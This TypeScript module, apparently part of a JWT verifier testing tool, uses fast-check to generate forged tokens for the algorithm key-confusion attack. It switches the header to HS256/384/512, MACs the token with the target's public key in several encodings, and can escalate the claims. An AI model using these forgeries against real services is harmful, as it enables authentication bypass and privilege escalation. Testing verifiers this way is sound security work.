import { createHmac, type KeyObject } from 'node:crypto';
import fc from 'fast-check';
import { b64url, encodeJson } from '../compact.ts';
import type { JwtKit, KitUnavailable } from '../kit.ts';
import { claimsFor, escalationNote, type JwtMutation } from '../mutation.ts';

/** The forms of a public key an HMAC-confused verifier might take as its secret. */
function keyForms(publicKey: KeyObject): { readonly name: string; readonly secret: Buffer }[] {
  const pem = String(publicKey.export({ type: 'spki', format: 'pem' }));
  const forms = [
    { name: 'SPKI PEM', secret: Buffer.from(pem) },
    { name: 'SPKI PEM without final newline', secret: Buffer.from(pem.trimEnd()) },
    { name: 'SPKI DER', secret: publicKey.export({ type: 'spki', format: 'der' }) },
    { name: 'JWK JSON', secret: Buffer.from(JSON.stringify(publicKey.export({ format: 'jwk' }))) },
  ];
  if (publicKey.asymmetricKeyType === 'rsa') {
    forms.push({
      name: 'PKCS#1 PEM',
      secret: Buffer.from(String(publicKey.export({ type: 'pkcs1', format: 'pem' }))),
    });
  }
  return forms;
}

/**
 * Key confusion: the header switched to HS256/384/512 and the token MAC'd with the target's *public* key
 * (as PEM, DER or JWK text), so a verifier that lets the token choose the algorithm checks an HMAC keyed with
 * a key everyone has.
 *
 * RFC 8725 §2.1 and §3.1 ("libraries MUST enable the caller to specify a supported set of algorithms and
 * MUST NOT use any other algorithms"); RFC 7515 §4.1.1.
 *
 *   JWS = BASE64URL({"alg":"HS256",…}) "." BASE64URL(claims) "." BASE64URL(HMAC(publicKeyBytes, input))
 */
export function keyConfusionMutation(
  kit: JwtKit,
  escalate: fc.Arbitrary<boolean> = fc.boolean(),
): fc.Arbitrary<JwtMutation> | KitUnavailable {
  if (!kit.publicKey)
    return { unavailable: 'profile lacks jwt.publicJwk: the key-confusion attack needs the public key' };
  const forms = keyForms(kit.publicKey);
  return fc
    .record({ bits: fc.constantFrom('256', '384', '512'), form: fc.constantFrom(...forms), escalate })
    .map(({ bits, form, escalate: up }) => {
      const input = `${encodeJson({ ...kit.header, alg: `HS${bits}` })}.${encodeJson(claimsFor(kit, up))}`;
      return {
        attack: 'key-confusion',
        variant: `HS${bits} keyed with the public key as ${form.name}${escalationNote(up)}`,
        token: `${input}.${b64url(createHmac(`sha${bits}`, form.secret).update(input).digest())}`,
        escalated: up,
      };
    });
}
